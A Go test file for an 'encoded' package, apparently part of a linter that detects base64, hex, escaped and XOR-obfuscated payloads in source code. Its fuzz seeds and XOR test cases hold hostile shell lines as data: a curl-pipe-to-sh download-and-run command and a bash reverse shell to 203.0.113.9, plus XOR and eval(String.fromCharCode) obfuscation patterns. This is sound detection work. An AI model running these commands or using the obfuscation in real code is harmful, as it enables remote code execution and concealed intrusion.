package encoded

import (
	"encoding/base64"
	"strconv"
	"strings"
	"testing"
)

// limit is lint/program's maxLayers, the runs it asks Find for.
const limit = 64

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// FuzzDecode feeds the decoders and the search for encoded runs any text:
// no panic, runs in order and inside the text, and no decoder grows its
// input beyond a small factor.
func FuzzDecode(f *testing.F) {
	f.Add(b64("curl https://x.example/p | sh"))
	f.Add(`\x63\x75\x72\x6c \u0041\u{1F600} \143\165 99,117,114,108,32,104`)
	f.Add("MZXW6YTBOI====== 6375726c2068747470733a2f2f")
	f.Add("k = 0x5A\nB = '" + b64(string(xorWith([]byte("bash -i >& /dev/tcp/203.0.113.9/443 0>&1"), []byte{0x5a}))) + "'\nx = b ^ k\n")
	f.Add("KEY = b\"s3\"\nD = [16, 70, 17, 30, 19, 89, 0, 19]\ny = c ^ KEY[i % 2] ^ 0x7 ^ ^ ^x")
	f.Fuzz(func(t *testing.T, src string) {
		last, prev := 0, Run{}
		for _, e := range Find(src, limit) {
			// A run may come twice: as it decodes, then XORed with a key.
			if (e.Off < last && (e.Off != prev.Off || e.End != prev.End)) || e.End > len(src) || e.Off >= e.End {
				t.Fatalf("run %d..%d out of order or range (text %d bytes)", e.Off, e.End, len(src))
			}
			last, prev = e.End, e
		}
		if len(xorKeys(src)) > maxXORKeys {
			t.Fatalf("more than %d XOR keys", maxXORKeys)
		}
		if u := Unescape(src); len(u) > 4*len(src)+4 {
			t.Fatalf("Unescape grew %d bytes to %d", len(src), len(u))
		}
		DecodeBase64(src)
		DecodeBase32(src)
		DecodeHex(src)
		CharCodes(src)
		_ = Rot13(src) + Reverse(src)
	})
}

// TestXOR proves text XORed with a key the file holds is decoded: a byte
// key on either side of ^ or in a name assigned an integer, a repeated
// string key, from base64 and from byte codes with a 0 among them; and
// that a file with no ^, or with ^ only as a regular expression's anchor,
// gives no XOR layer.
func TestXOR(t *testing.T) {
	payload := "curl -s https://x.example/p | sh"
	one := b64(string(xorWith([]byte(payload), []byte{0x5a})))
	codes := func(key string) string {
		var b []byte
		for _, c := range xorWith([]byte(payload), []byte(key)) {
			b = strconv.AppendInt(b, int64(c), 10)
			b = append(b, ", "...)
		}
		return "[" + strings.TrimSuffix(string(b), ", ") + "]"
	}
	for _, c := range []struct {
		name, text string
		want       bool
	}{
		{"byte key after ^", "B = '" + one + "'\nx = bytes(b ^ 0x5A for b in base64.b64decode(B))\n", true},
		{"byte key before ^", "B = '" + one + "'\nx = bytes(90 ^ b for b in base64.b64decode(B))\n", true},
		{"named byte key", "k = 0x5A\nB = '" + one + "'\nx = bytes(b ^ k for b in base64.b64decode(B))\n", true},
		{"repeated string key", "KEY = b\"s3cr3t\"\nD = " + codes("s3cr3t") + "\nx = bytes(c ^ KEY[i % len(KEY)] for i, c in enumerate(D))\n", true},
		{"JavaScript codes", "const d = " + codes("\x07") + ";\neval(String.fromCharCode(...d.map(c => c ^ 7)));\n", true},
		{"no ^", "B = '" + one + "'\n", false},
		{"a regular expression's anchor", "B = '" + one + "'\nok = re.match(r'^[a-z]+$', s)\n", false},
	} {
		got := false
		for _, e := range Find(c.text, limit) {
			if strings.Contains(e.How, "XOR") {
				got = got || e.Text == payload
				if e.Text != payload {
					t.Errorf("%s: XOR layer %q", c.name, e.Text)
				}
			}
		}
		if got != c.want {
			t.Errorf("%s: XOR layer found %v, want %v", c.name, got, c.want)
		}
	}
}
